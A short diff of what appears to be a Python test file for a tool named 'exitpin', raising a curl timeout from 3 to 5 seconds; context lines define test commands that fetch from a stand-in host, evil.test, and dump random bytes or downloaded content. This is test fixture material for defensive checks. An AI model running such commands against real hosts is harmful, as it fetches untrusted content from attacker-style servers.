@@ -55,7 +55,7 @@ verdict = [
 ]
 test = [{ expect = "error", stdout = "none.txt" }]
 '''
-CURL = "curl -qsS --max-time 3"
+CURL = "curl -qsS --max-time 5"
 SAYS = {
     "random": f"{CURL} http://evil.test/random/10000000; head -c 3000000 /dev/urandom >&2",
     "escapes": f"{CURL} -i -o $EXITPIN_ARTIFACTS/body http://evil.test/escapes; cat $EXITPIN_ARTIFACTS/body; "
